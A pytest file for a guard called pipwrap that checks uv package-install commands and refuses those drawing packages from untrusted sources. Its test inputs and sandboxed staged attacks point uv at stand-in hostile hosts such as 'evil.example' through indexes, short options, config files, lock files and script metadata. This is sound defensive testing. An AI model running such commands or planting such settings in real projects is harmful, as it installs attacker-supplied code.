"""uv under the guard: the table against the real uv, and staged attacks through uv.

The option and variable tables come from uv's own help pages; these tests run the
generator's --check against the uv installed for the tests and require every valued
option and every variable to be classified, so a uv release that adds a spelling fails
here until it is reviewed.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from pipwrap.errors import RefusedError
from pipwrap.guard import uv as guard_uv
from pipwrap.guard import uv_env, uv_table
from pipwrap.guard.api import check
from tests.support.sandbox import Indexes, Sandbox, installed, uv_dir, write_file

EVIL = ("evil", "9.9.9")
LOCAL = ("local", "1.0")
INDEX = "http://127.0.0.1:9/simple/"
UV = str(uv_dir() / "uv")
GENERATOR = Path(__file__).resolve().parents[2] / "scripts" / "gen_uv_table.py"
EVIL_URL = "git+https://evil.example/x"


def test_table_is_what_the_installed_uv_lists() -> None:
    """The committed table is byte for byte what the generator makes from this uv."""
    done = subprocess.run([sys.executable, str(GENERATOR), "--check", UV],
                          capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout[-4000:] + done.stderr


def test_every_valued_uv_option_is_classified() -> None:
    classified = (set(guard_uv.SOURCE) | set(guard_uv.FILES) | guard_uv.REQUIREMENT_VALUES
                  | guard_uv.DIRECTORY | guard_uv.SCRIPT | guard_uv.GROUP | guard_uv.HARMLESS)
    valued = {longs[0] for longs, _shorts, takes in uv_table.OPTIONS if takes}
    assert valued - classified == set(), "classify these in pipwrap/guard/uv.py"
    assert not (set(guard_uv.SOURCE) | set(guard_uv.FILES) | guard_uv.REQUIREMENT_VALUES) \
        & guard_uv.HARMLESS


def test_short_letters_come_from_the_table() -> None:
    """Every short letter the table pairs with a source, file or requirement option is
    read as that option (``-w`` is ``--with``; ``-c`` is ``--clear`` for ``uv venv``)."""
    judged = set(guard_uv.SOURCE) | set(guard_uv.FILES) | guard_uv.REQUIREMENT_VALUES
    pairs = set()
    for command, indexes in uv_table.COMMANDS.items():
        for index in indexes:
            longs, shorts, _takes = uv_table.OPTIONS[index]
            for letter in shorts:
                assert guard_uv._lookup(command, f"-{letter}")[0] == longs[0]  # type: ignore[index]
                if longs[0] in judged:
                    pairs.add((f"-{letter}", longs[0]))
    assert {("-w", "--with"), ("-i", "--index-url"), ("-r", "--requirements"),
            ("-e", "--editable"), ("-f", "--find-links")} <= pairs
    assert guard_uv._lookup("venv", "-c") == ("--clear", False)
    assert guard_uv._lookup("pip install", "-c") == ("--constraints", True)


def test_a_short_option_uv_does_not_list_is_refused() -> None:
    with pytest.raises(RefusedError, match="-Z"):
        check(["uv", "pip", "install", "-Z", "foo"], {"PATH": "/usr/bin:/bin"},
              index_url=INDEX)


def test_every_uv_variable_is_classified() -> None:
    classified = set(uv_env.HARMLESS) | set(uv_env.FILES) | set(uv_env.SOURCES)
    assert set(uv_table.VARIABLES) - classified == set()
    assert not set(uv_env.SOURCES) & set(uv_env.HARMLESS)


def test_hidden_aliases_are_real(tmp_path: Path) -> None:
    """uv accepts each alias the guard maps (and rejects a prefix: no abbreviations)."""
    (tmp_path / "r.txt").write_text("")
    for alias in guard_uv.ALIASES:
        if alias == "--trusted-host":
            continue  # a pip spelling uv does not take: refused either way
        done = subprocess.run([UV, "pip", "install", "--dry-run", "--offline", alias,
                               str(tmp_path / "r.txt")],
                              capture_output=True, text=True, check=False)
        assert "unexpected argument" not in done.stderr, (alias, done.stderr)
    done = subprocess.run([UV, "pip", "install", "--extra-ind", INDEX, "x"],
                          capture_output=True, text=True, check=False)
    assert "unexpected argument" in done.stderr


@pytest.mark.parametrize("argv", [
    ["uv", "pip", "install", "--extra-index-url", "http://evil/", "foo"],
    ["uv", "pip", "install", "--index=http://evil/", "foo"],
    ["uv", "--config-file", "/tmp/evil.toml", "pip", "install", "foo"],
    ["uv", "pip", "install", "foo", "--allow-insecure-host", "evil"],
    ["uv", "pip", "install", "-ihttp://evil/", "foo"],
    ["uv", "pip", "install", "-f", "/tmp", "foo"],
    ["uv", "pip", "install", "--index-strategy", "unsafe-best-match", "foo"],
    ["uv", "pip", "install", "--frobnicate", "foo"],
    ["uv", "pip", "install", "--extra-ind", "http://evil/", "foo"],
    ["uv", "tool", "install", "--index-url", "http://evil/", "foo"],
    ["uvx", "--index", "http://evil/", "foo"],
    ["uv", "run", "--env-file", ".env", "python", "-c", "pass"],
    ["uv", "run", "pip", "install", "--extra-index-url", "http://evil/", "foo"],
    ["uvx", "pip", "install", "-i", "http://evil/", "foo"],
    ["uv", "add", "--index", "http://evil/", "foo"],
    ["uv", "pip", "install", "foo @ https://evil.example/foo.whl"],
    ["uv", "pip", "install", "--torch-backend", "auto", "torch"],
    ["python", "-m", "uv", "pip", "install", "--index", "http://evil/", "x"],
    # Short spellings of source, file and requirement options, read from the table.
    ["uvx", "-w", EVIL_URL, "black"],
    ["uvx", f"-w{EVIL_URL}", "black"],
    ["uvx", f"-w={EVIL_URL}", "black"],
    ["uvx", "-qw", EVIL_URL, "black"],
    ["uvx", "-w", f"black,{EVIL_URL}", "black"],
    ["uv", "tool", "run", "-w", EVIL_URL, "black"],
    ["uv", "run", "-w", EVIL_URL, "python", "-c", "pass"],
    ["uv", "run", f"-w={EVIL_URL}", "python"],
    ["uv", "tool", "install", "-w", EVIL_URL, "black"],
    ["uv", "pip", "install", "-e", EVIL_URL],
    ["uv", "pip", "install", "-i=http://evil/", "foo"],
    ["uv", "pip", "compile", "-f", "http://evil/", "in.txt"],
    ["uv", "pip", "install", "-qf=http://evil/", "foo"],
    ["uv", "lock", "-i", "http://evil/"],
])
def test_refused(argv: list[str]) -> None:
    with pytest.raises(RefusedError):
        check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX)


@pytest.mark.parametrize("argv", [
    ["uv", "pip", "install", "-q", "--target", "/tmp/t", "foo"],
    ["uv", "pip", "list", "--outdated"],
    ["uv", "--no-cache", "pip", "install", "--python", "/usr/bin/python3", "foo", "-U"],
    ["uv", "pip", "install", "--default-index", INDEX, "foo"],
    ["uv", "venv", "/tmp/v"],
    ["uvx", "ruff", "check"],
    ["uvx", "-w", "black", "ruff"],
    ["uvx", "-w=black", "ruff"],
    ["uv", "tool", "run", "-w", "black,isort", "ruff"],
    ["uv", "venv", "-c", "/tmp/v"],
    ["uv", "--version"],
    ["uv", "-V"],
    ["uv", "format", "--version", "0.8.0"],
])
def test_passed(argv: list[str]) -> None:
    check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX)


@pytest.mark.parametrize("words", [["-r", "evil.txt"], ["-revil.txt"], ["-r=evil.txt"],
                                   ["-qr", "evil.txt"], ["-c", "evil.txt", "foo"],
                                   ["-b", "evil.txt", "foo"], ["--requirement", "evil.txt"],
                                   ["--with-requirements", "evil.txt"]])
def test_short_file_options_are_followed(tmp_path: Path, words: list[str]) -> None:
    write_file(tmp_path / "evil.txt", "--extra-index-url http://evil.example/simple/\nfoo\n")
    command = ["uvx", *words, "black"] if words[0] == "--with-requirements" else \
        ["uv", "pip", "install", *words]
    with pytest.raises(RefusedError, match=r"evil\.txt"):
        check(command, {"PATH": "/usr/bin:/bin"}, index_url=INDEX, cwd=str(tmp_path))


def test_an_unclassified_valued_option_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(guard_uv, "HARMLESS", guard_uv.HARMLESS - {"--python"})
    with pytest.raises(RefusedError, match="has not classified"):
        check(["uv", "pip", "install", "-p", "3.12", "foo"], {"PATH": "/usr/bin:/bin"},
              index_url=INDEX)


@pytest.mark.parametrize("group", ["ev", "pyproject.toml:ev", ".:ev", "sub/pylock.toml:ev"])
def test_pip_interface_group_reads_the_file_it_names(tmp_path: Path, group: str) -> None:
    """`uv pip install --group [PATH:]NAME` installs a group from a pyproject.toml or a
    pylock.toml; its direct references are downloads like any other."""
    write_file(tmp_path / "pyproject.toml", '[project]\nname = "demo"\nversion = "0"\n'
               '[dependency-groups]\nev = ["foo @ https://evil.example/foo-9.9.9-py3-none-any.whl"]\n')
    write_file(tmp_path / "sub/pylock.toml", 'lock-version = "1.0"\ncreated-by = "x"\n'
               '[[packages]]\nname = "foo"\nversion = "9.9.9"\n[packages.archive]\n'
               'url = "https://evil.example/foo-9.9.9-py3-none-any.whl"\n')
    for command in (["pip", "install"], ["pip", "compile"], ["pip", "sync"]):
        with pytest.raises(RefusedError, match=r"evil\.example"):
            check(["uv", *command, "--group", group], {"PATH": "/usr/bin:/bin"},
                  index_url=INDEX, cwd=str(tmp_path))
    # In a project command the group is one of the project's own (`uv add --group dev`).
    write_file(tmp_path / "other/pyproject.toml", '[project]\nname = "o"\nversion = "0"\n')
    check(["uv", "add", "--group", "ev", "--frozen", "bar"], {"PATH": "/usr/bin:/bin"},
          index_url=INDEX, cwd=str(tmp_path / "other"))


@pytest.mark.parametrize("argv", [
    ["uv", "sync", "--group", "ev"],
    ["uv", "run", "--group", "ev", "python", "-c", "pass"],
    ["uv", "export", "--only-group", "ev"],
    ["uv", "lock"],
])
def test_project_commands_read_the_projects_direct_references(tmp_path: Path,
                                                              argv: list[str]) -> None:
    """A group `--group` selects (or any group, extra, dependency) of the project: uv
    resolves its `name @ URL` like any requirement."""
    write_file(tmp_path / "pyproject.toml", '[project]\nname = "demo"\nversion = "0"\n'
               'dependencies = []\n[project.urls]\nHomepage = "https://example.org/demo"\n'
               '[dependency-groups]\nev = ["foo @ https://evil.example/foo-9.9.9-py3-none-any.whl"]\n')
    with pytest.raises(RefusedError, match=r"\[dependency-groups\]"):
        check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX, cwd=str(tmp_path))
    # [project.urls] is no download: a project naming its homepage is installed as usual.
    write_file(tmp_path / "pyproject.toml", '[project]\nname = "demo"\nversion = "0"\n'
               'dependencies = ["foo"]\n[project.urls]\nHomepage = "https://example.org/demo"\n')
    check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX, cwd=str(tmp_path))
    check(["pip", "install", "."], {"PATH": "/usr/bin:/bin"}, index_url=INDEX,
          cwd=str(tmp_path))


def _attack(sandbox: Sandbox, indexes: Indexes, venv: Path, command: str,
            **env: str) -> subprocess.CompletedProcess[str]:
    bare, wrapped = sandbox.home / "bare", sandbox.home / "wrapped"
    python = venv / "bin" / "python"
    script = (
        f"cd ~\nUV_DEFAULT_INDEX={indexes.local.url} "
        f"{command.format(python=python, target=bare)}\n"
        f"wrap {command.format(python=python, target=wrapped)}\necho status=$?\n"
    )
    done = sandbox.sh("bash", script, **env)
    assert installed(bare) == EVIL, f"the staged attack did not work:\n{done.stderr}"
    assert done.stdout.strip().splitlines()[-1] == "status=3", done.stderr
    assert not wrapped.exists()
    return done


@pytest.mark.parametrize("command", [
    "uvx -w {url} python -c 'import foo; print(foo.ORIGIN)'",
    "uvx -w={url} python -c 'import foo; print(foo.ORIGIN)'",
    "uv tool run -w {url} python -c 'import foo; print(foo.ORIGIN)'",
    "uv run --no-project -w {url} python -c 'import foo; print(foo.ORIGIN)'",
])
def test_short_with_is_refused_under_wrap(sandbox: Sandbox, indexes: Indexes,
                                          command: str) -> None:
    """`-w` is `--with`: bare, the evil Foo is imported; under wrap, nothing runs."""
    url = indexes.upstream.url.replace("/simple/", "/packages/foo-9.9.9-py3-none-any.whl")
    line = command.format(url=url)
    script = (f"cd ~\nUV_DEFAULT_INDEX={indexes.local.url} {line}\n"
              f"pipwrap check -- {line}\necho check=$?\n"
              f"wrap {line}\necho status=$?\n")
    done = sandbox.sh("bash", script)
    lines = done.stdout.strip().splitlines()
    assert lines[0] == "evil", f"the staged attack did not work:\n{done.stderr}"
    assert lines[1:] == ["check=3", "status=3"], done.stderr
    assert "pipwrap: refused:" in done.stderr


def test_uv_pip_sync_scans_its_positional_file(sandbox: Sandbox, indexes: Indexes,
                                               venv: Path) -> None:
    write_file(sandbox.home / "req.txt", f"--extra-index-url {indexes.upstream.url}\nfoo\n")
    done = _attack(sandbox, indexes, venv,
                   "uv pip sync -q --python {python} --target {target} req.txt")
    assert "req.txt:1" in done.stderr


def test_directory_moves_where_files_are_found(sandbox: Sandbox, indexes: Indexes,
                                               venv: Path) -> None:
    write_file(sandbox.home / "proj/req.txt", f"--find-links {indexes.evil_dir}\nfoo\n")
    _attack(sandbox, indexes, venv, "uv --directory proj pip install -q --python {python} "
            "--target {target} -r req.txt")


def test_uv_config_file_variable_is_scrubbed(sandbox: Sandbox, indexes: Indexes,
                                             venv: Path) -> None:
    """An explicit uv config file is read even with UV_NO_CONFIG: wrap removes it."""
    evil = write_file(sandbox.home / "evil.toml",
                      f'[[index]]\nurl = "{indexes.upstream.url}"\n')
    bare, wrapped = sandbox.home / "bare", sandbox.home / "wrapped"
    python = venv / "bin/python"
    script = (
        f"UV_DEFAULT_INDEX={indexes.local.url} uv pip install -q --python {python} "
        f"--target {bare} foo\n"
        f"pipwrap run -- uv pip install -q --python {python} --target {wrapped} foo\n"
    )
    done = sandbox.sh("bash", script, UV_CONFIG_FILE=str(evil),
                      UV_INDEX_STRATEGY="unsafe-best-match")
    assert installed(bare) == EVIL, done.stderr
    assert installed(wrapped) == LOCAL, done.stderr


def test_project_sources_and_lock_files(sandbox: Sandbox, indexes: Indexes) -> None:
    """[tool.uv.sources] pinning foo to an upstream index, and a uv.lock from it."""
    project = sandbox.home / "proj"
    write_file(project / "pyproject.toml", (
        '[project]\nname = "demo"\nversion = "0"\nrequires-python = ">=3.9"\n'
        'dependencies = ["foo"]\n\n[[tool.uv.index]]\nname = "up"\n'
        f'url = "{indexes.upstream.url}"\nexplicit = true\n\n'
        '[tool.uv.sources]\nfoo = { index = "up" }\n'))
    script = (
        f"cd {project}\nUV_DEFAULT_INDEX={indexes.local.url} uv lock -q\n"
        "grep -c 9.9.9 uv.lock\nwrap uv sync -q --frozen\necho status=$?\n"
    )
    done = sandbox.sh("bash", script)
    lines = done.stdout.strip().splitlines()
    assert lines[0] != "0", f"the staged lock does not pin the evil foo:\n{done.stderr}"
    assert lines[-1] == "status=3", done.stderr
    assert "pyproject.toml" in done.stderr or "uv.lock" in done.stderr


@pytest.mark.parametrize("how", [["--script", "s.py"], ["s.py"]])
def test_a_scripts_inline_uv_settings_are_read(tmp_path: Path, how: list[str]) -> None:
    write_file(tmp_path / "s.py", '# /// script\n# dependencies = ["foo"]\n# [tool.uv]\n'
               '# extra-index-url = ["https://upstream.example/simple/"]\n# ///\nimport foo\n')
    with pytest.raises(RefusedError, match=r"s\.py:4"):
        check(["uv", "run", *how], {"PATH": "/usr/bin:/bin"}, index_url=INDEX,
              cwd=str(tmp_path))
